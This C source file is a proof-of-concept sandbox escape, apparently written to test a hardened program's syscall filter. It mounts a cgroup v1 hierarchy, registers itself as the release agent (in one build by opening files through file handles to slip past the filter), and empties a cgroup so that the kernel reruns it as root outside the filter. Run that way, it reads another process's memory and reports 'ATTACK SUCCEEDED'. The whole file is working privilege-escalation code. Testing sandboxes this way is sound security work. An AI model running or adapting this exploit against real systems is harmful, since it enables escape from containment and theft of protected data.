/* rev36-release-agent.c - a program run by execve under a hardened
 * program's filter (not our process): it names itself the release agent
 * of a cgroup v1 hierarchy it mounts, and empties a cgroup of it, so that
 * the kernel starts it again, as root and under no filter. Built with
 * -DBY_HANDLE (review 37), it opens every cgroup v1 file for writing by
 * file handle (name_to_handle_at, open_by_handle_at), an open the filter
 * let through without O_TRUNC and the supervisor never saw.
 *
 * rev36-release-agent PID ADDR: the attack. Started by the kernel (its
 * one argument the cgroup's path, "/PID-ADDR"): 31 bytes of PID's memory
 * at ADDR (hex) into the file named after itself with ".out". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "helper-steps.h"
#include "release-agent.h"

#ifdef BY_HANDLE
#define NAME "bh37"
#define HOW " by handle"
/* The hierarchy's root, for open_by_handle_at's mount. */
static int top_fd = -1;

static int open_for_writing(const char *path) {
  union {
    struct file_handle h;
    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } u;
  int mount_id;
  u.h.handle_bytes = MAX_HANDLE_SZ;
  return name_to_handle_at(AT_FDCWD, path, &u.h, &mount_id, 0)
             ? -1
             : open_by_handle_at(top_fd, &u.h, O_WRONLY);
}
#else
#define NAME "bh36"
#define HOW ""
static int open_for_writing(const char *path) { return open(path, O_WRONLY); }
#endif

static int put(const char *path, const char *text) {
  int fd = open_for_writing(path);
  int ok = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);
  if (fd >= 0)
    close(fd);
  return ok;
}

/* The control: a plain open for writing of a kernel setting (review 36's
 * release_agent by handle) is refused. */
static void control(const char *path) {
  int fd = open(path, O_WRONLY);
  printf("helper: plain open of %s for writing: %s\n", strrchr(path, '/') + 1,
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
}

int main(int argc, char **argv) {
  if (argc == 2 && argv[1][0] == '/')
    return agent(argv[0], argv[1]);
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  char top[4200], dir[4300], file[4400], out[4200], buf[64] = {0};
#ifndef BY_HANDLE
  control("/proc/sys/kernel/core_pattern");
#endif
  /* Next to itself: the agent's file is written in the initial mount
   * namespace, where this directory is the same. */
  snprintf(top, sizeof top, "%s.cg", argv[0]);
  snprintf(dir, sizeof dir, "%s/%s-%s", top, argv[1], argv[2]);
  snprintf(file, sizeof file, "%s/release_agent", top);
  if (!step(!unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)") ||
      !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
            "mount private") ||
      !step(!mkdir(top, 0700), "mkdir") ||
      !step(!mount(NAME, top, "cgroup", 0, "none,name=" NAME),
            "mount cgroup v1"))
    return 1;
#ifdef BY_HANDLE
  if (!step((top_fd = open(top, O_RDONLY | O_DIRECTORY)) >= 0, "open top"))
    return 1;
  control(file);
#endif
  if (!step(put(file, argv[0]), "write release_agent" HOW) ||
      !step(!mkdir(dir, 0755), "mkdir cgroup"))
    return 1;
  snprintf(file, sizeof file, "%s/notify_on_release", dir);
  if (!step(put(file, "1"), "write notify_on_release" HOW))
    return 1;
  /* A child joins the cgroup and ends: the cgroup is empty, the kernel
   * runs the release agent. */
  snprintf(file, sizeof file, "%s/cgroup.procs", dir);
  pid_t c = fork();
  if (c == 0)
    _exit(put(file, "0") ? 0 : 1);
  int st = 0;
  waitpid(c, &st, 0);
  if (!step(WIFEXITED(st) && !WEXITSTATUS(st), "join the cgroup"))
    return 1;
  snprintf(out, sizeof out, "%s.out", argv[0]);
  for (int i = 0; i < 100; i++) { /* up to 10 s */
    int fd = open(out, O_RDONLY);
    if (fd >= 0) {
      usleep(100000);
      if (read(fd, buf, sizeof buf - 1) < 0)
        buf[0] = 0;
      close(fd);
      break;
    }
    usleep(100000);
  }
  /* Tidy for a host run natively: the hierarchy ends with its last
   * cgroup and mount. */
  rmdir(dir);
#ifdef BY_HANDLE
  close(top_fd);
#endif
  umount(top);
  rmdir(top);
  unlink(out);
  if (!strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: the release agent, set" HOW
           " and run by the kernel outside the filter, read '%s'\n",
           buf);
  else
    printf("helper: the agent's output: '%s'\n", buf);
  return 0;
}
